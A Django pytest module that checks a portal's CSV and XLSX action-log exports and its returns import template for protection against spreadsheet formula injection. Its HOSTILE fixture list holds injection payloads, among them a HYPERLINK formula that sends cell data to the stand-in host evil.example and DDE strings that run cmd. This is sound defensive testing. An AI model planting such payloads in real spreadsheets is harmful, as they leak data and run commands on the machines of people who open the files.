"""Exports opened in a spreadsheet never run what someone typed (OWASP: CSV injection).

The action log export (CSV and XLSX) and the returns import template; the rules are in
csp_portal.spreadsheets.
"""
import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from boards.models import Membership
from csp_portal.spreadsheets import csv_cell, formula_like
from indicators.imports.files import template_csv, template_xlsx
from tests.factories import ActionFactory, MeetingFactory
from tests.fixtures.boards import signed_in

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_neutralised_in_csv(text):
    assert formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Burglary", "1319", "", "Chair's report", " =not first"])
def test_ordinary_text_is_left_alone(text):
    assert csv_cell(text) == text


@pytest.fixture
def action_log(client, board):
    meeting = MeetingFactory(board=board)
    for number, text in enumerate(HOSTILE, start=1):
        ActionFactory(raised_at=meeting, number=number, description=text, comments=text,
                      lead_body=text)
    signed_in(client, board, Membership.Role.MEMBER)
    return client, board


@pytest.mark.django_db
def test_the_action_log_csv_export_neutralises_every_typed_cell(action_log):
    client, board = action_log
    url = reverse("actions:action_log", args=[board.slug])
    response = client.get(url, {"_export": "csv", "status": ""})
    body = b"".join(response.streaming_content)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    typed = [cell for row in rows[1:] for cell in (row[1], row[2], row[7])]
    assert len(typed) == 3 * len(HOSTILE)
    assert all(cell.startswith("'") and cell[1:] in HOSTILE for cell in typed), typed


@pytest.mark.django_db
def test_the_action_log_xlsx_export_writes_strings_never_formulas(action_log):
    client, board = action_log
    url = reverse("actions:action_log", args=[board.slug])
    content = b"".join(client.get(url, {"_export": "xlsx", "status": ""}).streaming_content)
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).active
    # Description, lead and comments of every row. A lone CR is stored as OOXML's escape
    # _x000D_ (which Excel reads back as CR; openpyxl leaves it in inline strings), and
    # XML may read it back as a newline.
    cells = [sheet[f"{column}{row}"] for row in range(3, len(HOSTILE) + 3) for column in "BCH"]
    assert {c.value.replace("_x000D_", "\r").replace("\n", "\r") for c in cells} == {
        t.replace("\n", "\r") for t in HOSTILE
    }
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_the_returns_template_neutralises_indicator_names():
    rows = [["=1+1", "2018-01", "", "", "", "", "", "", ""]]
    guide = [["=1+1", '=HYPERLINK("http://evil.example")', "count", "monthly"]]
    text = template_csv(rows).decode("utf-8-sig")
    assert "'=1+1" in text
    content = template_xlsx(rows, guide)
    for name in ("xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"):
        xml = zipfile.ZipFile(io.BytesIO(content)).read(name)
        assert b"<f>" not in xml
    guide_sheet = load_workbook(io.BytesIO(content))["Indicators"]
    name = guide_sheet["B2"]
    assert name.data_type == "s" and name.quotePrefix
